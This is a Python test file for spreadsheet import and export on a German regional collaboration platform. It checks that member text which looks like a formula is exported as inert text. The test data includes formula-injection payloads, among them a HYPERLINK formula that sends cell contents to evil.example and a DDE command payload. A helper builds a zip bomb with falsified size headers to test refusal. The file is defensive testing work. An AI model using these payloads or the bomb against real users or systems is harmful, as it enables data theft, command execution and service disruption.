"""Spreadsheets both ways (issue 13.1): the region as an Excel workbook, and workbooks and
CSV sheets as German Excel writes them turned into the network, with a preview."""

import io
import json
import re

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from collab.core.models import Actor, Municipality, Tie
from collab.extensions import db

R = "/regions/swf5"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def text(response):
    return response.get_data(as_text=True)


def _export_xlsx(runner, path):
    result = runner.invoke(args=["export", "swf5", "--format", "xlsx", "-o", str(path)])
    assert result.exit_code == 0, result.output
    return load_workbook(path)


# --- the workbook -----------------------------------------------------------------------------


def test_workbook_has_one_sheet_per_kind_with_german_headers(runner, tmp_path):
    wb = _export_xlsx(runner, tmp_path / "swf5.xlsx")
    for title in ("Kommunen", "Akteure", "Initiativen", "Beteiligungen", "Verbindungen",
                  "Formate", "Regeln", "Region", "Erläuterung"):
        assert title in wb.sheetnames
    headers = [c.value for c in wb["Akteure"][1]]
    assert headers[:4] == ["Schlüssel", "Name", "Typ", "Ebene"]
    assert "Kapazität (VZÄ)" in headers
    assert [c.value for c in wb["Kommunen"][1]][:4] == ["Schlüssel", "Name", "Art", "AGS"]
    assert wb["Regeln"].protection.sheet  # read-only
    assert wb["Akteure"].max_row > 5


#: member-entered text a spreadsheet program could take for a formula or an error value
FORMULA_TEXTS = ('=HYPERLINK("https://evil.example/?"&A1,"Klick")', "+49 2761 1234",
                 "-Liste", "@SUM(A1:A3)", "#N/A", "=cmd|' /C calc'!A0", "\t=1+1")


def _with_formula_texts(runner, tmp_path) -> None:
    """The region's text fields hold values that look like formulas."""
    path = tmp_path / "formulas.json"
    assert runner.invoke(args=["export", "swf5", "-o", str(path)]).exit_code == 0
    doc = json.loads(path.read_text())
    for actor, value in zip(doc["actors"], FORMULA_TEXTS, strict=False):
        actor["description"] = value
    doc["actors"][-1]["name"] = "=1+1"
    doc["initiatives"][0]["funding"] = "=2*3"
    doc["ties"][0]["description"] = "#REF!"
    doc["region"]["description"] = "=A1"
    path.write_text(json.dumps(doc))
    result = runner.invoke(args=["import", str(path)])
    assert result.exit_code == 0, result.output


def test_xlsx_round_trip_gives_the_identical_json_export(runner, tmp_path, app):
    """Export JSON, export XLSX, change the region, import the XLSX: the JSON export is the
    original one again, byte for byte, text that looks like a formula included."""
    first, book, second = tmp_path / "a.json", tmp_path / "a.xlsx", tmp_path / "b.json"
    _with_formula_texts(runner, tmp_path)
    assert runner.invoke(args=["export", "swf5", "-o", str(first)]).exit_code == 0
    assert FORMULA_TEXTS[0] in first.read_text(encoding="utf-8").replace('\\"', '"')
    _export_xlsx(runner, book)
    doc = json.loads(first.read_text())
    doc["actors"][0]["name"] = "Zwischenstand"
    doc["ties"] = doc["ties"][1:]
    changed = tmp_path / "changed.json"
    changed.write_text(json.dumps(doc))
    assert runner.invoke(args=["import", str(changed)]).exit_code == 0
    result = runner.invoke(args=["import", str(book)])
    assert result.exit_code == 0, result.output
    assert runner.invoke(args=["export", "swf5", "-o", str(second)]).exit_code == 0
    assert first.read_text() == second.read_text()
    # and once more: nothing left to change
    assert "0 neu, 0 geändert, 0 entfernt" in runner.invoke(args=["import", str(book)]).output


def test_xlsx_writes_member_text_as_text_never_as_a_formula(as_user, api):
    """A member's text that starts like a formula ("=HYPERLINK(…)") is a text cell in the
    export (Excel evaluates no text cell), marked with Excel's quote prefix so that editing
    the cell keeps it text; its value is the text as entered."""
    olpe = api("olpe")
    for key, value in (("olpe-bm", FORMULA_TEXTS[0]), ("olpe-rat", "#N/A"),
                       ("olpe-digital", "@SUM(A1:A3)")):
        response = olpe.patch(f"/regions/swf5/actors/{key}", {"description": value})
        assert response.status_code == 200, response.get_json()
    response = as_user("koordination").get(f"{R}/bundle.xlsx")
    ws = load_workbook(io.BytesIO(response.data))["Akteure"]
    column = [c.value for c in ws[1]].index("Beschreibung")
    cells = {row[0].value: row[column] for row in ws.iter_rows(min_row=2)}
    for key, value in (("olpe-bm", FORMULA_TEXTS[0]), ("olpe-rat", "#N/A"),
                       ("olpe-digital", "@SUM(A1:A3)")):
        assert cells[key].data_type == "s", key
        assert cells[key].value == value
        assert cells[key].quotePrefix
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


def test_template_workbook_has_drop_down_lists_and_an_explanation(as_user):
    coordinator = as_user("koordination")
    response = coordinator.get(f"{R}/vorlage.xlsx")
    assert response.status_code == 200 and response.mimetype == XLSX
    wb = load_workbook(io.BytesIO(response.data))
    assert wb.sheetnames[0] == "Erläuterung"
    assert wb["Akteure"].max_row == 1  # headers only
    validations = wb["Akteure"].data_validations.dataValidation
    ebene = [c.value for c in wb["Akteure"][1]].index("Ebene")
    letter = "ABCDEFGHIJKLMNOP"[ebene]
    found = [dv for dv in validations if letter + "2" in str(dv.sqref)]
    assert found and found[0].type == "list" and found[0].formula1.startswith("Listen!")
    listed = [c.value for c in wb["Listen"]["A"] if c.value]
    assert len(listed) > 1
    explained = " ".join(str(c.value) for row in wb["Erläuterung"].iter_rows() for c in row
                         if c.value)
    assert "TT.MM.JJJJ" in explained and "koordinierend" in explained


# --- CSV as German Excel writes it --------------------------------------------------------------


GERMAN_CSV = (
    "Schlüssel;Name;Typ;Ebene;Kommune;Kapazität (VZÄ);Themen\r\n"
    "olpe-kita;Kita-Verbund Olpe;Fachamt;Umsetzung;olpe;1.234,5;Bildung\r\n"
    "olpe-rat;Rat der Stadt Olpe (neu);;;;0,5;\r\n"
)


def _actor(key):
    return db.session.scalar(sa.select(Actor).filter_by(key=key))


def test_csv_semicolon_bom_decimal_comma_merges(runner, tmp_path, app):
    path = tmp_path / "akteure.csv"
    path.write_bytes(b"\xef\xbb\xbf" + GERMAN_CSV.encode("utf-8"))
    with app.app_context():
        before = db.session.scalar(sa.select(sa.func.count(Actor.id)))
        old_type = _actor("olpe-rat").type
    result = runner.invoke(args=["import", str(path), "--region", "swf5"])
    assert result.exit_code == 0, result.output
    with app.app_context():
        assert db.session.scalar(sa.select(sa.func.count(Actor.id))) == before + 1
        kita = _actor("olpe-kita")
        assert kita.capacity_fte == 1234.5 and kita.level == "operational"
        assert kita.topics == ["education"]
        rat = _actor("olpe-rat")  # updated, blank cells keep what it had
        assert rat.name == "Rat der Stadt Olpe (neu)" and rat.capacity_fte == 0.5
        assert rat.type == old_type


def test_csv_sheet_keeps_the_regions_solutions(api):
    """A single CSV sheet only adds and updates: the region's solutions, which no sheet
    holds, stay as they are (they were removed)."""
    coordinator = api("koordination")
    before = coordinator.get("/regions/swf5/bundle").get_json()["solutions"]
    assert before
    response = coordinator.client.put("/api/v1/regions/swf5/bundle",
                                      data=GERMAN_CSV.encode("utf-8"),
                                      headers={**coordinator.headers, "Content-Type": "text/csv"})
    assert response.status_code == 200, response.get_json()
    assert response.get_json()["changes"]["solutions"]["deleted"] == 0
    assert coordinator.get("/regions/swf5/bundle").get_json()["solutions"] == before


def test_csv_windows_1252_comma_separated_dates_and_ja_nein(runner, tmp_path, app):
    body = ("Schlüssel,Name,Handlungsfeld,Status,Beginn,Ende,Reichweite\r\n"
            "gruene-wiese,Grüne Wiese,Energie und Klima,Idee,01.02.2025,31.12.2026,"
            "gemeinsam\r\n")
    path = tmp_path / "initiativen.csv"
    path.write_bytes(body.encode("cp1252"))
    result = runner.invoke(args=["import", str(path), "--region", "swf5"])
    assert result.exit_code == 0, result.output
    from collab.core.models import Initiative
    with app.app_context():
        found = db.session.scalar(sa.select(Initiative).filter_by(key="gruene-wiese"))
        assert found.name == "Grüne Wiese" and found.topic == "energy_climate"
        assert found.start.isoformat() == "2025-02-01" and found.end.year == 2026
    from collab.bundles.sheets import parse_bool
    assert parse_bool("Ja") is True and parse_bool("nein") is False


def test_csv_municipality_with_german_numbers(runner, tmp_path, app):
    body = ("Schlüssel;Name;Art;AGS;Land;Einwohnerzahl;Fläche (km²);Breitengrad;Längengrad;"
            "Mitglied seit\n"
            "attendorn;Attendorn;Kreisangehörige Stadt;05966004;NW;24.551;97,73;51,12;7,9;"
            "15.03.2024\n")
    path = tmp_path / "k.csv"
    path.write_bytes(body.encode("utf-8"))
    result = runner.invoke(args=["import", str(path), "--region", "swf5"])
    assert result.exit_code == 0, result.output
    with app.app_context():
        m = db.session.scalar(sa.select(Municipality).filter_by(key="attendorn"))
        assert m.population == 24551 and m.area_km2 == 97.73 and m.lat == 51.12


def test_problems_name_sheet_row_and_column_and_change_nothing(runner, tmp_path, app):
    body = GERMAN_CSV + "olpe-x;X;Fachamt;galaktisch;olpe;1,2,3;\r\n"
    path = tmp_path / "akteure.csv"
    path.write_bytes(body.encode("utf-8"))
    result = runner.invoke(args=["import", str(path), "--region", "swf5"])
    assert result.exit_code == 1
    assert ("Akteure, Zeile 4, Spalte „Ebene“: unbekannter Wert „galaktisch“; erlaubt: "
            "politisch-strategisch, koordinierend, Umsetzung") in result.output
    assert "Akteure, Zeile 4, Spalte „Kapazität (VZÄ)“" in result.output
    with app.app_context():
        assert _actor("olpe-kita") is None  # nothing changed


def test_a_name_where_a_key_belongs_is_answered_with_the_key(runner, tmp_path, app):
    """User pass: "Olpe" in the Kommune column (as the pages show it) was answered with "nur
    Kleinbuchstaben, Ziffern und einzelne Bindestriche"; the answer names the key to use.
    The same for an actor's name where a tie's end belongs."""
    body = GERMAN_CSV + "olpe-x;Neue Stelle;Fachamt;Umsetzung;Olpe;1;\r\n"
    path = tmp_path / "akteure.csv"
    path.write_bytes(body.encode("utf-8"))
    result = runner.invoke(args=["import", str(path), "--region", "swf5"])
    assert result.exit_code == 1
    assert ("Akteure, Zeile 4, Spalte „Kommune“: „Olpe“ ist ein Name; diese Spalte nimmt den "
            "Schlüssel: „olpe“.") in result.output, result.output
    with app.app_context():
        assert _actor("olpe-x") is None
    ties = tmp_path / "verbindungen.csv"
    ties.write_bytes(b"Von;Zu;Art\r\nRat der Stadt Olpe;swa;Kooperation\r\n")
    result = runner.invoke(args=["import", str(ties), "--region", "swf5"])
    assert result.exit_code == 1
    assert "„Rat der Stadt Olpe“ ist ein Name; diese Spalte nimmt den Schlüssel: „olpe-rat“." \
        in result.output, result.output


def test_xlsx_problem_is_located_in_the_workbook(runner, tmp_path, app):
    book = tmp_path / "a.xlsx"
    wb = _export_xlsx(runner, book)
    ws = wb["Verbindungen"]
    headers = [c.value for c in ws[1]]
    ws.cell(row=3, column=headers.index("Zu") + 1, value="niemand")
    wb.save(book)
    result = runner.invoke(args=["import", str(book)])
    assert result.exit_code == 1
    assert "Verbindungen, Zeile 3, Spalte „Zu“" in result.output, result.output
    assert "niemand" in result.output


def test_english_headers_are_accepted(runner, tmp_path, app):
    path = tmp_path / "actors.csv"
    path.write_text("key,name,type,level,municipality\n"
                    "olpe-it,IT Olpe,department,operational,olpe\n", encoding="utf-8")
    result = runner.invoke(args=["import", str(path), "--region", "swf5"])
    assert result.exit_code == 0, result.output
    path.write_text("Key,Name,Type,Level\nolpe-it,IT Olpe 2,Specialist department,operational\n",
                    encoding="utf-8")
    assert runner.invoke(args=["import", str(path), "--region", "swf5"]).exit_code == 0
    with app.app_context():
        assert _actor("olpe-it").name == "IT Olpe 2"


def test_merge_workbook_never_removes(runner, tmp_path, app):
    book = tmp_path / "a.xlsx"
    wb = _export_xlsx(runner, book)
    ws = wb["Verbindungen"]
    ws.delete_rows(2, ws.max_row)  # only one tie left below
    ws.append(["", "olpe-rat", "soest-rat", "Kooperation"])
    wb.save(book)
    with app.app_context():
        ties = db.session.scalar(sa.select(sa.func.count(Tie.id)))
    result = runner.invoke(args=["import", str(book), "--merge"])
    assert result.exit_code == 0, result.output
    with app.app_context():
        assert db.session.scalar(sa.select(sa.func.count(Tie.id))) >= ties


# --- the region page and the API ----------------------------------------------------------------


def _upload(client, body, name, merge=False):
    data = {"bundle": (io.BytesIO(body), name)}
    if merge:
        data["merge"] = "y"
    return client.post(f"{R}/bundle", data, content_type="multipart/form-data")


def test_page_upload_csv_previews_and_imports_on_confirmation(as_user, app):
    coordinator = as_user("koordination")
    assert "Arbeitsmappe herunterladen" in text(coordinator.get(R))
    response = _upload(coordinator, GERMAN_CSV.encode("utf-8"), "akteure.csv")
    page = text(response)
    assert response.status_code == 200 and "Probelauf" in page, page
    assert "Kita-Verbund Olpe" in page and "würden entfernt" not in page
    # a CSV only adds: the confirmation says so instead of warning of deletions (user pass)
    assert "Nur ergänzen: Der Import legt an und ändert" in page and "gelöscht" not in page
    assert "Netzwerk-Bündel" not in page.split("<h1>")[1].split("</h1>")[0]
    assert coordinator.get(f"{R}/actors/olpe-kita").status_code == 404
    digest = re.search(r'name="digest" type="hidden" value="([0-9a-f]{64})"', page).group(1)
    response = coordinator.post(f"{R}/bundle/import", {"digest": digest})
    assert response.status_code == 200 and "angeglichen" in text(response)
    assert coordinator.get(f"{R}/actors/olpe-kita").status_code == 200


def test_page_upload_problem_names_sheet_row_column(as_user):
    coordinator = as_user("koordination")
    body = GERMAN_CSV.replace("Umsetzung", "galaktisch").encode("utf-8")
    page = text(_upload(coordinator, body, "akteure.csv"))
    assert "Akteure, Zeile 2, Spalte „Ebene“" in page
    assert "es wurde nichts geändert" in page


def test_page_workbook_download_and_upload(as_user):
    coordinator = as_user("koordination")
    response = coordinator.get(f"{R}/bundle.xlsx")
    assert response.status_code == 200 and response.mimetype == XLSX
    page = text(_upload(coordinator, response.data, "swf5.xlsx"))
    assert "entspricht bereits dem Stand" in page, page


@pytest.mark.parametrize("merge", [False, True])
def test_api_xlsx_get_and_put(api, merge):
    coordinator = api("koordination")
    response = coordinator.get("/regions/swf5/bundle?format=xlsx")
    assert response.status_code == 200 and response.mimetype == XLSX
    wb = load_workbook(io.BytesIO(response.data))
    wb["Akteure"]["B2"] = "Umbenannt per API"
    out = io.BytesIO()
    wb.save(out)
    response = coordinator.client.put(
        f"/api/v1/regions/swf5/bundle{'?merge=1' if merge else ''}", data=out.getvalue(),
        headers={**coordinator.headers, "Content-Type": XLSX})
    assert response.status_code == 200, response.get_json()
    assert response.get_json()["changes"]["actors"]["updated"] == 1
    # an invalid workbook: 422 naming sheet, row and column
    wb["Akteure"]["D2"] = "galaktisch"
    out = io.BytesIO()
    wb.save(out)
    response = coordinator.client.put("/api/v1/regions/swf5/bundle", data=out.getvalue(),
                                      headers={**coordinator.headers, "Content-Type": XLSX})
    assert response.status_code == 422
    fields = [d["field"] for d in response.get_json()["details"]]
    assert "Akteure, Zeile 2, Spalte „Ebene“" in fields
    assert api(None).get("/openapi.json").status_code in (200, 401)


def test_api_refuses_garbage_workbook_with_422(api):
    coordinator = api("koordination")
    response = coordinator.client.put("/api/v1/regions/swf5/bundle", data=b"PK\x03\x04nope",
                                      headers={**coordinator.headers, "Content-Type": XLSX})
    assert response.status_code == 422


def _bomb(api, monkeypatch, *, lying: bool) -> bytes:
    """The region's workbook plus a part that unpacks to 300 times its packed size (with
    ``lying``: the archive's directory and local header claim it holds 10 bytes)."""
    import struct
    import zipfile
    import zlib

    from collab.bundles import sheets

    monkeypatch.setattr(sheets, "MAX_UNPACKED_BYTES", 2 * 2**20)  # 2 MB, for speed
    body = api("koordination").get("/regions/swf5/bundle?format=xlsx").data
    source, out = zipfile.ZipFile(io.BytesIO(body)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            archive.writestr(info.filename, source.read(info.filename))
        archive.writestr("xl/padding.xml", b"a" * (3 * 2**20))
    data = bytearray(out.getvalue())
    if lying:
        info = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo("xl/padding.xml")
        claim = (zlib.crc32(b"a" * 10), info.compress_size, 10)
        struct.pack_into("<III", data, info.header_offset + 14, *claim)
        entry = data.find(b"PK\x01\x02")
        while entry != -1:
            length = struct.unpack_from("<H", data, entry + 28)[0]
            if data[entry + 46:entry + 46 + length] == b"xl/padding.xml":
                struct.pack_into("<III", data, entry + 16, *claim)
            entry = data.find(b"PK\x01\x02", entry + 4)
        assert sum(i.file_size for i in zipfile.ZipFile(io.BytesIO(bytes(data))).infolist()) \
            < 2 * 2**20
    return bytes(data)


@pytest.mark.parametrize("lying", [False, True], ids=["honest", "lying-sizes"])
def test_a_workbook_that_unpacks_to_too_much_is_refused(api, monkeypatch, lying):
    """A zip bomb: 422 with a German message before any sheet is read, also when the archive
    lies about its sizes (the bytes are counted as they unpack, not as declared)."""
    from collab.bundles import sheets

    body = _bomb(api, monkeypatch, lying=lying)
    read = []
    monkeypatch.setattr(sheets, "read_workbook", lambda b, real=sheets.read_workbook: (
        read.append(1), real(b))[1])
    coordinator = api("koordination")
    response = coordinator.client.put("/api/v1/regions/swf5/bundle?dry_run=1", data=body,
                                      headers={**coordinator.headers, "Content-Type": XLSX})
    assert response.status_code == 422, response.get_json()
    assert "entpackt größer als 2 MB" in json.dumps(response.get_json(), ensure_ascii=False)
    assert read  # refused inside the reader, before calamine saw the file


def test_hostile_spreadsheets_are_refused_with_a_message(as_user):
    """Bytes that are no workbook, a CSV field longer than any cell, control characters:
    a German message, never a 500, nothing changed."""
    coordinator = as_user("koordination")
    for body, name in ((b"PK\x03\x04garbage", "x.xlsx"),
                       (b"Schl\xc3\xbcssel;Name\n" + b"a" * 200_000 + b";x\n", "akteure.csv"),
                       ("Schlüssel;Name;Typ;Ebene\nolpe-nul;A\x00B;Fachamt;Umsetzung\n"
                        .encode(), "akteure.csv"),
                       (b"", "leer.csv")):
        response = _upload(coordinator, body, name)
        assert response.status_code == 200, (name, response.status_code)
        assert "es wurde nichts geändert" in text(response), name


def test_page_workbook_merge_keeps_what_the_sheet_lacks(as_user):
    coordinator = as_user("koordination")
    wb = load_workbook(io.BytesIO(coordinator.get(f"{R}/bundle.xlsx").data))
    ws = wb["Akteure"]
    ws.delete_rows(3, ws.max_row)  # one actor left, renamed
    ws["B2"] = "Nur diese Zeile"
    out = io.BytesIO()
    wb.save(out)
    page = text(_upload(coordinator, out.getvalue(), "swf5.xlsx", merge=True))
    assert "Probelauf" in page and "Nur ergänzen" in page and "würden entfernt" not in page
    # without merge the actors would go, but the ties still name them: located, refused
    page = text(_upload(coordinator, out.getvalue(), "swf5.xlsx", merge=False))
    assert "es wurde nichts geändert" in page and "Verbindungen, Zeile 2, Spalte" in page


def test_xlsx_export_restores_a_new_region_with_its_rules(runner, tmp_path):
    """The workbook of a region imported as a region new to the platform (another slug)
    gives the same bundle: the read-only rules sheet carries the rules with their votes."""
    book = tmp_path / "a.xlsx"
    wb = _export_xlsx(runner, book)
    ws = wb["Region"]
    for row in ws.iter_rows(min_row=2):
        if row[0].value == "Kürzel":
            row[1].value = "swf5-kopie"
    wb.save(book)
    result = runner.invoke(args=["import", str(book)])
    assert result.exit_code == 0, result.output
    first, copy = tmp_path / "a.json", tmp_path / "b.json"
    assert runner.invoke(args=["export", "swf5", "-o", str(first)]).exit_code == 0
    assert runner.invoke(args=["export", "swf5-kopie", "-o", str(copy)]).exit_code == 0
    original, restored = json.loads(first.read_text()), json.loads(copy.read_text())
    restored["region"]["slug"] = "swf5"
    assert restored == original


def test_csv_ties_and_participations_sheets(runner, tmp_path, app, seed_bundle):
    ties = tmp_path / "t.csv"
    ties.write_bytes("Von;Zu;Art;Stärke;Vertrauen (1–5);Herkunft\r\n"
                     "olpe-rat;soest-rat;Wissenstransfer;4;5;selbst gemeldet\r\n"
                     .encode("cp1252"))
    result = runner.invoke(args=["import", str(ties), "--region", "swf5"])
    assert result.exit_code == 0, result.output
    initiative = seed_bundle["initiatives"][0]["key"]
    parts = tmp_path / "p.csv"
    parts.write_text(f"Initiative;Akteur;Rolle\n{initiative};soest-rat;Beobachter\n",
                     encoding="utf-8-sig")
    result = runner.invoke(args=["import", str(parts), "--region", "swf5"])
    assert result.exit_code == 0, result.output
    from collab.core.models import Initiative
    with app.app_context():
        tie = db.session.scalar(sa.select(Tie).filter_by(
            key="olpe-rat-soest-rat-knowledge-transfer"))
        assert tie.weight == 4 and tie.trust == 5 and tie.provenance == "self_reported"
        found = db.session.scalar(sa.select(Initiative).filter_by(key=initiative))
        roles = {p.actor.key: p.role for p in found.participations}
        assert roles["soest-rat"] == "observer"
        assert len(roles) == len(seed_bundle["initiatives"][0]["participants"]) + 1
